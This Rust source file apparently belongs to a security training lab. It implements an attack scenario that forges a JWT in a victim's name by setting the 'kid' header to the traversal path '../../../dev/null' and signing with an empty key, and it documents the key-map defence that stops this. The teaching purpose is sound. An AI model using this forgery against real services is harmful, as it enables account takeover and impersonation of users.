//! Leading the verifier to an empty file. Worksheet 12.
//!
//! Start: the attacker has an ordinary account, and guesses that keys are files.
//!
//! Why it works: the weak `jwt-kid` joins the name to the path of a folder. A path with `..` leaves
//! the folder, so the attacker chooses the key among all files of the server.
//!
//! Proof: the API works in the victim's name for a token whose key is the content of `/dev/null`.
//!
//! Stopped by `jwt-kid` alone. Not stopped by `jwt-signature`: both sides use the same, empty key.
//! Not by file permissions: anyone may read this file.
//!
//! Refused for this program: a file with known contents, such as a stylesheet. It works as well
//! where files are really opened. This lab computes the path and opens no file, so a demonstration
//! cannot read a file of the student's computer, and an empty file is the one whose contents are
//! certain.
//!
//! Source: RFC 8725 §3.10, ASVS 9.1.3, CWE-22 (path traversal), CWE-347. Compare `blank_key.rs`:
//! the same empty key, reached by another mistake.

use super::super::scenario::{ATTACKER, Scenario, ScenarioError, VICTIM};
use super::super::{Attack, Card, Engine, Outcome};
use super::bearer::{judge, own_parts};
use crate::defences::policy::Name;
use async_trait::async_trait;

pub(in crate::attacks) struct KidToEmptyFile;

const CARD: Card = Card {
    name: "kid-to-empty-file",
    title: "A key name that leads to an empty file",
    engine: Engine::Http,
    victim: "Has an account, and need not be signed in.",
    means: "The attacker writes a token in the victim's name whose key name is the path \
            ../../../dev/null, a file that is always there and always empty, and signs it with no \
            bytes at all.",
    evidence: "The profile says that the attacker is logged in as the victim.",
    stopped_by: &[&[Name::JwtKid]],
    when_stopped: "The name is in no map of keys, so the token was refused. No file is opened.",
    shows: &["JWT-KID"],
    standards: &["ASVS 9.1.3", "CWE-22", "CWE-347", "WSTG-SESS-10"],
};

#[async_trait]
impl Attack for KidToEmptyFile {
    fn card(&self) -> &'static Card {
        &CARD
    }

    async fn run(&self, scenario: &Scenario) -> Result<Outcome, ScenarioError> {
        scenario.narrate("The attacker signs in to their own account and decodes the token.");
        let mut attacker = scenario.actor("attacker");
        let own = own_parts(&mut attacker, ATTACKER).await?;

        scenario.narrate("The attacker names an empty file as the key, and signs with no bytes.");
        // On the weak arm of `jwt-kid` the name becomes a path below the folder of keys. `..` at
        // the root of the file system changes nothing, so a few more of them than needed do no
        // harm, and the attacker need not know where the folder is. /dev/null is on every Unix.
        let forged = own
            .in_the_name_of(VICTIM)
            .with_header("kid", "../../../dev/null");
        // Filtering `..` was refused: there are other spellings and absolute paths. A map from
        // names to keys has no path in it at all.
        judge(&CARD, &mut attacker, &forged.hs256(b"")?, VICTIM).await
    }
}
